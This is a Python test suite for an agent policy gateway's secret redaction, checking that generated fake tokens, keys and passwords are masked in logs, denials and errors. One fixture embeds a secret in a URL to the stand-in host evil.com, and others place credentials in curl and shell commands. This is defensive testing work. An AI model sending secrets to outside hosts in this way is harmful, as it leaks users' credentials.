"""A secret of any kind, anywhere in a call, leaves the gateway nowhere; and what is no secret stays readable."""

import io
import json
import time
from typing import Any

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from contracts.policy import CallOf, ToolCall
from services.policy_gateway.audit.denials import Denials
from services.policy_gateway.audit.fingerprint import Fingerprint
from services.policy_gateway.audit.redaction import keep, told
from services.policy_gateway.calls.answers import denied
from services.policy_gateway.calls.call import Call
from services.policy_gateway.calls.entries import decided_entry
from services.policy_gateway.calls.judging import Judgement
from services.policy_gateway.decision.decide import decide
from services.policy_gateway.decision.facts import Facts
from services.policy_gateway.decision.verdict import Deny
from services.policy_gateway.policy.book import Version
from services.runtime import logs
from services.runtime.clock import FixedClock
from services.runtime.redaction import masked, masked_tree
from tests.unit.policy_gateway.decision.verdicts import ROLES, corpus

FINGERPRINT = Fingerprint(b"k" * 32)
UPPER, LOWER, DIGITS = "ABCDEFGHIJKLMNOPQRSTUVWXYZ", "abcdefghijklmnopqrstuvwxyz", "0123456789"
PRIVATE = "PRIVATE KEY-----"
ALNUM = UPPER + LOWER + DIGITS


def of(alphabet: str, size: int) -> st.SearchStrategy[str]:
    """A random part, with a digit in it as chance has it."""
    return st.text(alphabet, min_size=size - 1, max_size=size - 1).map(lambda text: text + "7")


SHAPED = st.one_of(
    of(ALNUM, 36).map("ghp_".__add__),
    of(ALNUM, 36).map("gho_".__add__),
    of(ALNUM + "_", 82).map("github_pat_".__add__),
    of(ALNUM + "-_", 20).map("glpat-".__add__),
    of(ALNUM, 36).map("npm_".__add__),
    of(ALNUM + "-_", 35).map("AIza".__add__),
    of(ALNUM, 24).map("sk_live_".__add__),
    of(ALNUM, 48).map("sk-".__add__),
    of(ALNUM + "-_", 60).map("sk-ant-api03-".__add__),
    of(DIGITS, 12).map("xoxb-1234-".__add__),
    of(ALNUM, 24).map("https://hooks.slack.com/services/T0001/B0001/".__add__),
    of(UPPER + DIGITS, 16).map("AKIA".__add__),
    of(ALNUM + "+", 28).map("abcdeFGHIJ47".__add__),
    st.tuples(of(ALNUM, 20), of(ALNUM, 40), of(ALNUM + "-_", 43)).map(lambda parts: "eyJ" + ".".join(parts)),
    of(ALNUM + "+/", 64).map(f"-----BEGIN OPENSSH {PRIVATE}\n{{}}\n-----END OPENSSH {PRIVATE}".format),
    st.text(UPPER + "234567", min_size=56, max_size=56).map("SU".__add__),
    st.text(UPPER + "234567", min_size=31, max_size=31).map(lambda text: text + "2"),
    st.text(UPPER + "234567", min_size=16, max_size=16).map("otpauth://totp/htdag:a?secret=".__add__),
)  # fmt: skip
"""Known wherever they stand, by what they are."""
PLAIN = st.text(ALNUM, min_size=6, max_size=20).map(lambda text: f"Q{text}9")
"""Known only by the name they stand under."""
NAMES = st.sampled_from(
    ["password", "token", "api_key", "X-Api-Key", "apiKey", "client_secret", "AWS_SECRET_ACCESS_KEY", "Authorization",
     "Cookie", "passphrase", "Private-Token", "totp", "access-token", "SECRET_KEY_BASE", "X-Auth-Token"]
)  # fmt: skip
OPTIONS = st.sampled_from(
    ["token", "password", "api-key", "api_key", "secret", "client-secret", "auth-token", "passphrase"]
)


def placed(secret: str) -> st.SearchStrategy[Any]:
    """Arguments that hold a secret which is known by its shape."""
    return st.sampled_from(
        [
            {"cmd": ["mix", secret]},
            {"cmd": ["git", "commit", "-m", f"see {secret} here"]},
            {"cmd": ["git", "push", f"x={secret}"]},
            {"cmd": [secret]},
            {"url": f"https://docs.rs/{secret}"},
            {"url": f"https://evil.com/?q={secret}&b=1"},
            {"url": "https://docs.rs/", "headers": {"accept": secret}},
            {"url": "https://docs.rs/", "headers": {secret: "x"}},
            {"read": f"/etc/{secret}"},
            {"write": f"/code/{secret}", "content": secret},
            {secret: 1},
            {"src": f"return {secret!r}", "argv": [secret, {"deep": [secret]}]},
            {"image": secret, "cmd": ["x"], "cpu": 1, "mem": secret},
            {"image": "x", "cmd": ["x"], "mounts": [{"host": f"/{secret}", "cont": "/x", "ro": True}]},
            [secret],
            secret,
        ]
    )


def named(name: str, option: str, secret: str) -> st.SearchStrategy[Any]:
    """Arguments that hold a secret which is known by its name."""
    return st.sampled_from(
        [
            {"cmd": ["mix", f"--{option}", secret]},
            {"cmd": ["rm", f"--{option}={secret}", "x"]},
            {"cmd": ["sh", "-c", f"deploy --{option} {secret} && echo done"]},
            {"cmd": ["sh", "-c", f"deploy --{option} '{secret}'"]},
            {"cmd": ["curl", "-H", f"{name}: {secret}"]},
            {"cmd": ["curl", "-H", f"{name}:", secret]},
            {"cmd": ["curl", "-H", f"Authorization: Bearer {secret}"]},
            {"cmd": ["curl", "-H", "Authorization:", "Bearer", secret]},
            {"cmd": ["curl", "-u", f"bob:{secret}"]},
            {"cmd": ["env", f"{name}={secret}"]},
            {"cmd": ["curl", f"https://x/?{option.replace('-', '_')}={secret}&page=2"]},
            {"cmd": ["git", "clone", f"https://bob:{secret}@github.com/x"]},
            {"cmd": ["npm", "config", "set", "//registry.npmjs.org/:_authToken", secret]},
            {"url": f"https://bob:{secret}@docs.rs/"},
            {"url": f"https://docs.rs/?{option}={secret}"},
            {"url": "https://docs.rs/", "headers": {name: secret}},
            {"url": "https://docs.rs/", "headers": [[name, secret]]},
            {"url": "https://docs.rs/", "headers": [{"name": name, "value": secret}]},
            {"src": f"local {option.replace('-', '_')} = '{secret}'"},
            {"src": json.dumps({name: secret})},
            {name: secret},
            {name: [secret, {"x": secret}]},
        ]
    )


@st.composite
def calls(draw: st.DrawFn) -> tuple[str, Call]:
    """A call with a secret in it, and the part of it that must be seen nowhere."""
    if draw(st.booleans()):
        whole = draw(SHAPED)
        secret = whole.split("\n")[1] if "\n" in whole else whole[-16:]
        inside = placed(whole)
    else:
        whole = secret = draw(PLAIN)
        inside = named(draw(NAMES), draw(OPTIONS), whole)
    args, opts = draw(inside), draw(st.sampled_from([{}, {"timeout": 5}]))
    role, by = "coder", "executor"
    tool = draw(st.sampled_from(["git", "shell", "fs", "http", "docker", "lua"]))
    where = draw(st.sampled_from(["args", "args", "args", "opts", "tool", "by", "role"]))
    if where == "opts":
        args, opts = {"cmd": ["mix", "test"]}, args
    elif where != "args" and "\n" not in whole and whole is not secret:
        args = {"cmd": ["mix"]}
        role, tool, by = (whole if where == "role" else role, whole if where == "tool" else tool,
                          whole if where == "by" else by)  # fmt: skip
    role = draw(st.sampled_from(["tester", "critic", "researcher", "admin", role])) if where != "role" else role
    return secret, Call("c1", role, tool, ToolCall(args, opts, CallOf("r", "t", 1, 1)), by, "c1", 0.0)


def everything_told(call: Call) -> str:
    """All that leaves the gateway because of a call: entry, answer, lines for people, log lines, errors of tools."""
    said, logged = io.StringIO(), io.StringIO()
    log = logs.configure("policy-gateway", stream=logged)
    verdict = decide(ROLES, call.role, call.tool, call.asked.args, call.asked.opts, Facts())
    kept = keep(call.asked.args, call.asked.opts, FINGERPRINT)
    judgement = Judgement(verdict, Version(1, "d", "", ROLES), None, None, None)
    entry = decided_entry(call, kept, judgement, gateway="g", sandbox="s", now_ms=1)
    denials = Denials(clock=FixedClock(), log=log, gateway="g", stream=said)
    denials.tell(entry, code="forbidden_command", rule="r", attack="shell_injection", detail=entry.detail)
    raised = denials.raised(entry, "role_mismatch")
    answer = denied(verdict._replace(detail=entry.detail)).encoded() if isinstance(verdict, Deny) else b""
    args = call.asked.args
    shown = args.get("url", args.get("cmd", "")) if isinstance(args, dict) else args
    broken = told({"code": "file_error", "path": shown, "message": f"cannot {shown}"}, kept.masking)
    log.warning("x", args=args, opts=call.asked.opts)
    everything = [msgspec.json.encode(part).decode() for part in (entry, raised, broken)]
    return "\n".join((*everything, answer.decode(), said.getvalue(), logged.getvalue()))


@settings(max_examples=600, deadline=None)
@given(calls())
def test_a_secret_anywhere_in_a_call_is_told_nowhere(case: tuple[str, Call]) -> None:
    secret, call = case
    assert secret not in everything_told(call)


@settings(max_examples=200, deadline=None)
@given(SHAPED, st.text(max_size=20), st.text(max_size=20))
def test_a_secret_with_a_shape_is_found_in_any_text(secret: str, before: str, after: str) -> None:
    part = secret.split("\n")[1] if "\n" in secret else secret[-16:]
    if part not in before + after:
        assert part not in masked(f"{before} {secret} {after}")


@pytest.mark.parametrize("call", [call for call, _ in corpus("everyday.toml")], ids=str)
def test_everyday_calls_are_kept_as_they_are(call: Any) -> None:
    kept = keep(call.args, call.opts or {}, FINGERPRINT)
    assert kept.exact == ("sk_live_x" not in str(call.args))
    assert masked_tree(call.opts) == call.opts


@pytest.mark.parametrize(
    "text",
    [
        "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b",
        "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        "550e8400-e29b-41d4-a716-446655440000",
        "01HZX3KQ5V9W8R7T6Y5U4I3O2P",
        "sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxvUdBeoGlODJ6+SfaPg==",
        "/code/lib/auth/token.ex",
        "/code/apps/billing/test/Support/VeryLongFolderName2/another_file_v3.exs",
        "lib/auth.ex:12:5: undefined variable \"tokens\"",
        "task-implement-the-login-page-2",
        "sk-learn-contrib-and-more",
        "https://github.com/elixir-lang/elixir/blob/main/lib/elixir/lib/kernel.ex#L120",
        "https://docs.rs:443/tokio/latest/tokio/?search=spawn&page=2",
        "ssh://git@github.com/x/y.git",
        "git@github.com:x/y.git",
        "npm:foo@1.2.3",
        "Fix the token refresh; add password reset and basic authentication",
        "max_tokens=24",
        "2026-11-20T17:00:00Z",
        "1000:1000",
        "MIX_ENV=test",
        "psql --no-password --host db",
        "--max-tokens 24 --out /tmp/x",
        "ABCDEFGHIJKLMNOPQRSTUVWXYZABCDEF",
        "PATH=/usr/bin:/bin",
        "PWD=/code OLDPWD=/tmp",
        '{"pwd": "/code"}',
        "git -p log",
        "git add -p lib/a.ex",
        "git log -p -u --stat",
        "mkdir -p lib/new",
        "ssh -p 22 me@host",
        "docker run -p 8080:80 -u 1000:1000 nginx",
        "cp -pr a b && tar -pxf x.tar",
        "find . -path ./deps -prune -o -print",
        "gcc -pthread -pedantic -pipe",
        "cargo build -p my_crate && pytest -p no:cacheprovider",
        "ps -p 123; nmap -p1-65535 host; patch -p1",
        "mysql -p shop -u root",
        "perl -pi -e s/a/b/ x",
        "the login page -- and don't use -u or -p",
        "https://github.com/x/y/issues?state=open&page=2",
        "https://docs.rs/?code=E0382",
        "https://medium.com/@somebody/a-story",
        "https://h/?status=200&code=404",
    ],
)  # fmt: skip
def test_everyday_text_stays_readable(text: str) -> None:
    assert masked(text) == text
    assert masked_tree({"cmd": ["x", text, "y"]}) == {"cmd": ["x", text, "y"]}


def test_a_secret_key_of_aws_with_slashes_is_known_where_it_stands_alone() -> None:
    assert masked("key wJalrXUtnFEMI/K7MDENG/bPxRfiCY3X4MPLEKEY ") == "key *** "


@pytest.mark.parametrize("text", ["bearer\tabcd", "Basic Zm9vOg==", "a://:abcd@b", "token=x1"])
def test_short_texts_are_searched_too(text: str) -> None:
    assert masked(text).endswith(("***", "***@b"))


def test_no_text_is_expensive() -> None:
    texts = [
        "eyJ-", "://a:", "a=", "token=", "aA1", "-----BEGIN ", "bearer ", "password: \n", "'token:a", "sk-", '"a\\',
        "SU", "token \t ", "-----BEGIN PRIVATE KEY-----", "://", "token:'", "xoxb.xoxb", "%", "a.", "basic a",
        "mysql -p", "curl -u a:", "login -p '", "sh -c \"", "\"'\\", "?code=", "&state=a", "https://a", "-p1a", "ñ",
        "-u ",
    ]  # fmt: skip
    for text in texts:
        small, large = (_effort(text * (size // len(text))) for size in (20_000, 160_000))
        assert large < 40 * max(small, 0.001), text


def _effort(text: str) -> float:
    """CPU seconds, the best of three."""
    times = []
    for _ in range(3):
        began = time.process_time()
        masked(text)
        times.append(time.process_time() - began)
    return min(times)


def test_the_digest_of_a_short_secret_cannot_be_guessed() -> None:
    args = {"write": "/code/pin", "content": "4711"}
    one, other = keep(args, {}, FINGERPRINT), keep(args, {}, Fingerprint(b"another key"))
    assert one.sha256 == keep(args, {}, FINGERPRINT).sha256, "repeats are told apart from other calls"
    assert one.sha256 != keep(args | {"content": "4712"}, {}, FINGERPRINT).sha256
    assert one.sha256[16:] != other.sha256[16:]
    assert one.args["content"]["sha256"] != other.args["content"]["sha256"]
